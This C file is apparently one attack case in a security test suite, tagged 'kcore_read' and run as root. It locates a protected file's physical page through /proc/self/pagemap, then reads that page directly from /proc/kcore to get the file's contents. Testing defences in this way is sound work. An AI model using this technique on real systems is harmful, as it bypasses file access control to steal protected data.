// SPDX-License-Identifier: GPL-3.0-or-later
/* Reads the page that holds the file from /proc/kcore: root reads all memory. */
#include "attack.h"
#include <elf.h>

ATTACK("attack: kcore_read; threat: #30; user: root-as-eve; op: *; errno: *; fs: ext4; path: *; event: may; expect: open");

static uint64_t where; /* physical address of the file's first page */

static int prepare(void)
{
	int fd = open(SECRET, O_RDONLY), pagemap = open("/proc/self/pagemap", O_RDONLY);
	void *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 0);
	uint64_t entry;

	/* the page shall stay where it is; nobody reads it through this mapping */
	if (page == MAP_FAILED || mlock(page, 4096) < 0 ||
	    pread(pagemap, &entry, 8, (off_t)((uintptr_t)page / 4096 * 8)) != 8)
		return broken("pagemap");
	where = (entry & ((1ULL << 55) - 1)) * 4096;
	return where ? 0 : broken("no frame");
}

static int act(void)
{
	int fd = open("/proc/kcore", O_RDONLY);
	Elf64_Ehdr head;
	Elf64_Phdr ph;
	char page[4096];

	if (fd < 0 || read(fd, &head, sizeof(head)) != sizeof(head))
		return refused("kcore");
	for (int i = 0; i < head.e_phnum; i++) {
		if (pread(fd, &ph, sizeof(ph),
			  (off_t)(head.e_phoff + sizeof(ph) * (unsigned int)i)) != sizeof(ph))
			return broken("header");
		if (ph.p_type != PT_LOAD || where < ph.p_paddr || where - ph.p_paddr >= ph.p_memsz)
			continue;
		if (pread(fd, page, sizeof(page), (off_t)(ph.p_offset + (where - ph.p_paddr))) < 0)
			return refused("pread");
		return loot(page, sizeof(page));
	}
	return not_here("the page is in no segment of kcore");
}

HELD(prepare, act)
